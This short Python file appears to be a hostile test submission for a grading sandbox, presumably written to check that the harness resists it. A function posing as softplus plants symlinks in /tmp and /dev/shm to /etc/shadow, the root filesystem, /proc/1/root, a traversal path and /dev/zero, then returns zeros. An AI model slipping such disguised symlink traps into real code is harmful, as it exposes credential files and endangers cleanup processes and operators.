"""Leaves links to files of the host, for whoever cleans up."""

VERDICT = "wrong_values"
RUNS = 2

import os

import numpy as np


def softplus(z):
    for number, target in enumerate(
        ("/", "/etc/shadow", "/proc/1/root", "../../../..", "/dev/zero")
    ):
        for folder in ("/tmp", "/dev/shm"):
            link = f"{folder}/link{number}"
            if not os.path.lexists(link):
                os.symlink(target, link)
    return np.zeros_like(z)
